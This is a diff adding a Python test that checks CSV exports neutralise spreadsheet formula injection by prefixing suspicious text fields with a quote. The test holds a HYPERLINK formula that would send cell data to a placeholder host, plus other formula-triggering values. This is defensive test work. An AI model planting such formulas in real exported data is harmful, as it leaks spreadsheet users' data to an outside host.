@@ -36,6 +36,23 @@ def rows(path: Path) -> list[dict[str, str]]:
         return list(csv.DictReader(file))
 
 
+FORMULA = '=HYPERLINK("http://x/?"&A1)'
+
+
+def test_forged_texts_are_no_formulas(tmp_path: Path) -> None:
+    """A hash is no signature: a run from someone else may hold any text as a genome."""
+    forged = [
+        replace(told("aa", -0.5, 90), genome=FORMULA),
+        replace(told("bb", 0.0, 70, "@SUM(1+1)"), genome="-1+1"),
+    ]
+    write(tmp_path, forged, ["acc", "params"])
+    found = {row["key"]: row for row in rows(tmp_path / "candidates.csv")}
+    assert [found[key]["genome"] for key in ("aa", "bb")] == [f"'{FORMULA}", "'-1+1"]
+    assert found["aa"]["acc"] == "-0.5"  # a number is none
+    assert rows(tmp_path / "pareto.csv")[0]["genome"] == f"'{FORMULA}"
+    assert rows(tmp_path / "failures.csv")[0]["failure"] == "'@SUM(1+1)"
+
+
 def test_table_columns_match_documented_header() -> None:
     assert columns(["acc", "robust"]) == [
         "key", "genome", "acc", "robust", "params", "flops", "bio", "epochs", "seconds", "seed",
